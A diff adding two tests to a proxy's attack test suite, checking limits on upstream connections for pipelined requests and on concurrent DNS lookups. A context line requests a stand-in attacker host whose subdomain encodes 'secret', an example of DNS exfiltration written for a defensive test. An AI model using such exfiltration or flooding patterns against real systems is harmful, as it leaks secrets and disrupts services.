@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { Lookup } from './admission.js';
+import { mostLookups } from './call-proxy.js';
 import { isPublicAddress } from './public-address.js';
 import { Origin } from './testing/origin.js';
 import { closed, domain, ProxyUnderTest, statusOf } from './testing/proxy-under-test.js';
@@ -246,6 +247,43 @@ describe('an attack through the proxy', () => {
     await quiet.get('http://c2VjcmV0.evil.example/');
     quiet.close();
     expect(asked).toEqual([]);
+  });
+
+  it('opens no more than one connection to the other side for each of its own, however many requests it sends', async () => {
+    const held = await Origin.start(() => undefined, standsForPublic);
+    const victim = await ProxyUnderTest.start(
+      { kind: 'allowed', domains: [domain(publicName, held.port)] },
+      { lookup, permits },
+    );
+    const url = `http://${publicName}:${held.port}/`;
+    const socket = await victim.open();
+    socket.write(`GET ${url} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(2_000));
+    await closed(socket);
+    // The first was begun before the others were seen.
+    expect(held.sockets.length).toBeLessThanOrEqual(1);
+    expect(await proxy.get(`http://${publicName}:${origin.port}/`)).toBe(200);
+    victim.close();
+    held.close();
+  });
+
+  it('has few names resolved at once, however many it asks for', async () => {
+    const asked: ((addresses: readonly string[]) => void)[] = [];
+    const slow: Lookup = () => new Promise((resolve) => asked.push(resolve));
+    const victim = await ProxyUnderTest.start(
+      { kind: 'allowed', domains: [domain('sub.example', origin.port, true)] },
+      { lookup: slow, permits },
+    );
+    const names = Array.from({ length: 20 }, (_, index) => `n${index}.sub.example:${origin.port}`);
+    const tunnels = names.map((name) => victim.tunnel(name));
+    for (let answered = 0; answered < names.length; answered += 1) {
+      await expect.poll(() => asked.length).toBeGreaterThan(answered);
+      expect(asked.length - answered).toBeLessThanOrEqual(mostLookups);
+      asked[answered]?.([standsForPublic]);
+    }
+    const opened = await Promise.all(tunnels);
+    expect(opened.map(({ status }) => status)).toEqual(Array(20).fill(200));
+    for (const { socket } of opened) socket.destroy();
+    victim.close();
   });
 
   it('does not end the proxy, whatever it says', async () => {
